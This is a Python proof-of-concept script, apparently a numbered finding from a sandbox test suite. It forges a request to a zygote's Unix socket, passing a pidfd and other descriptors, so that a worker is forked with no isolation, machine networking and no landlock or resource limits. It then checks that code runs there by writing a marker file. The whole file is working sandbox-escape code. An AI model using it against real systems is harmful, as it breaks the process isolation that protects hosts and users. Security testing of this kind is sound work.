# name: have a zygote fork a worker without a sandbox, by a forged request to its socket
# line: 67
# finding: 2
import array
import ctypes
import glob
import json
import os
import select
import socket
import struct

from attack import STAGE, try_each

KEEPERS_NAMESPACES = 0x20000000 | 0x00020000
SYS_PIDFD_OPEN = 434
MARKER = f"{STAGE['home']}/ran-by-a-zygote"
PLAN = {"isolation": "none", "network": "machine", "view": [], "landlock": None, "sockets": None, "rlimits": [],
        "canaries": [], "controls": [], "required": []}
CODE = f"open({MARKER!r}, 'w').write(str(__import__('os').getpid()))"


def rights(*descriptors):
    return [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", descriptors))]


def frame(header, body=b""):
    header = json.dumps(header).encode()
    return struct.pack(">II", 4 + len(header) + len(body), len(header)) + header + body


def forged(path, kind, target):
    """The request that a keeper sends, the job that follows it, and a turn for the worker."""
    pid = ctypes.CDLL(None).syscall(SYS_PIDFD_OPEN, target, 0)
    if pid < 0:
        raise OSError(1, "pidfd_open")
    asking = (socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) if kind is None
              else socket.socketpair(socket.AF_UNIX, kind)[0])
    channel, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    kept, kept_theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    _, out = os.pipe()
    asking.setblocking(False)
    asking.sendmsg([struct.pack("<Iii", 1, KEEPERS_NAMESPACES, 0)],
                   rights(pid, theirs.fileno(), kept_theirs.fileno(), out, out), 0, path)
    plan = json.dumps(PLAN).encode()
    job = os.memfd_create("job")
    os.write(job, struct.pack("<I", len(plan)) + plan + b"/\0PATH=/usr/bin:/bin\0HOME=/")
    channel.settimeout(1)
    channel.recv(64)
    channel.sendmsg([b"J"], rights(job))
    kept.sendall(frame({"kind": "turn_start", "turn": 1}, CODE.encode()))
    return "sent a job" if worker_answers(kept) else None


def worker_answers(kept):
    while select.select([kept], [], [], 2)[0]:
        data = kept.recv(65536)
        if not data or b'"idle"' in data:
            return b'"idle"' in data
    return False


paths = glob.glob(f"{STAGE['runtime']}/z/*") or [f"{STAGE['runtime']}/z/{n}.sock" for n in range(4)]
ways = [("raw pair", socket.SOCK_RAW), ("datagram socket", None), ("datagram pair", socket.SOCK_DGRAM)]
try_each([(f"{name} to {os.path.basename(path)}", lambda p=path, k=kind, t=target: forged(p, k, t))
          for target in (os.getpid(), 1) for path in paths for name, kind in ways][:12])
